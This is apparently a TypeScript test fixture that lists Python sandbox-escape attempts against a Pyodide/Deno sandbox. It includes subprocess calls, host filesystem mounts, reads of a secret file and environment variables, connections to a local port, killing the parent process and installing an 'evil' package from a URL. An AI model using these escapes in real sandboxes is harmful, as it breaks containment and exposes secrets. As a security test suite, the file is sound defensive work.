/** Escapes from the Python sandbox as code: FOLDER has a secret.txt and must not get new files; PORT must receive no connections. */
export const sandboxAttacks: Readonly<Record<string, string>> = {
  subprocess: 'import subprocess\nsubprocess.run(["touch", "FOLDER/made"])',
  'os.popen': 'import os\nprint(os.popen("touch FOLDER/made").read())',
  'pyodide.code.run_js, programs':
    "from pyodide.code import run_js\nrun_js(\"new Deno.Command('touch', { args: ['FOLDER/made'] }).outputSync()\")",
  'pyodide.code.run_js, reading': 'from pyodide.code import run_js\nprint(run_js("Deno.readTextFileSync(\'FOLDER/secret.txt\')"))',
  'pyodide.code.run_js, writing': "from pyodide.code import run_js\nrun_js(\"Deno.writeTextFileSync('FOLDER/made', 'x')\")",
  'pyodide.code.run_js, the environment': 'from pyodide.code import run_js\nprint(run_js("JSON.stringify(Deno.env.toObject())"))',
  'node’s modules':
    "from pyodide.code import run_js\nprint(run_js(\"process.getBuiltinModule('node:fs').readFileSync('FOLDER/secret.txt', 'utf8')\"))",
  'node’s child processes':
    "from pyodide.code import run_js\nprint(run_js(\"process.getBuiltinModule('node:child_process').execSync('touch FOLDER/made')\"))",
  'a program module': 'from pyodide.code import run_js\nawait run_js("import(\'http://127.0.0.1:PORT/x.js\')")',
  'another thread':
    "from pyodide.code import run_js\nawait run_js(\"new Promise((done) => { const w = new Worker('data:text/javascript,try{Deno.writeTextFileSync(`FOLDER/made`,``)}catch{};fetch(`http://127.0.0.1:PORT`).catch(()=>0).then(()=>postMessage(1))', {type:'module'}); w.onmessage = () => done(1); w.onerror = (e) => { e.preventDefault(); done(2) } })\")",
  'another thread with its own permissions':
    "from pyodide.code import run_js\nawait run_js(\"new Promise((done, failed) => { const w = new Worker('data:text/javascript,postMessage(Deno.readTextFileSync(`FOLDER/secret.txt`))', {type:'module', deno:{permissions:{read:true}}}); w.onmessage = (e) => done(e.data); w.onerror = (e) => { e.preventDefault(); failed(new Error('refused')) } })\")",
  'more permissions':
    'from pyodide.code import run_js\nprint(await run_js("Deno.permissions.request({ name: \'read\' }).then((s) => s.state)"))\nprint(run_js("Deno.readTextFileSync(\'FOLDER/secret.txt\')"))',
  'pyodide_js.mountNodeFS': 'import pyodide_js\npyodide_js.mountNodeFS("/host", "FOLDER")\nprint(open("/host/secret.txt").read())',
  'NODEFS by hand':
    'import pyodide_js\nfs = pyodide_js.FS\nfs.mkdir("/h")\nfs.mount(fs.filesystems.NODEFS, {"root": "FOLDER"}, "/h")\nprint(open("/h/secret.txt").read())',
  'a constructor': 'import js\nprint(js.Object.constructor("return Deno.readTextFileSync(\'FOLDER/secret.txt\')")())',
  'a file of this machine': 'print(open("FOLDER/secret.txt").read())',
  'a link to a file of this machine': 'import os\nos.symlink("FOLDER/secret.txt", "link")\nprint(open("link").read())',
  'pyodide’s own folder, after the start':
    'from pyodide.code import run_js\nprint(run_js("[...Deno.readDirSync(Deno.args?.[0] ?? \'/\')].length"))',
  'the environment': 'import os\nprint(dict(os.environ))',
  'a socket': 'import socket\ns = socket.socket()\ns.settimeout(1)\ns.connect(("127.0.0.1", PORT))\ns.send(b"x")',
  urllib: 'import urllib.request\nprint(urllib.request.urlopen("http://127.0.0.1:PORT/", timeout=1).read())',
  fetch: 'from pyodide.http import pyfetch\nprint(await pyfetch("http://127.0.0.1:PORT/"))',
  'a WebSocket': 'from pyodide.code import run_js\nrun_js("new WebSocket(\'ws://127.0.0.1:PORT\')")',
  'killing the parent': 'import os, signal\nos.kill(os.getppid(), signal.SIGKILL)',
  'killing the parent from JavaScript': 'from pyodide.code import run_js\nrun_js("Deno.kill(Deno.ppid, \'SIGKILL\')")',
  'installing a package': 'import pyodide_js\nawait pyodide_js.loadPackage("http://127.0.0.1:PORT/evil-1.0-py3-none-any.whl")\nimport evil',
  micropip: 'import micropip\nawait micropip.install("http://127.0.0.1:PORT/evil-1.0-py3-none-any.whl")',
}
/** These succeed harmlessly: a thread without permissions, an environment that is Python's own. */
export const harmlessAttacks: readonly string[] = ['another thread', 'the environment']
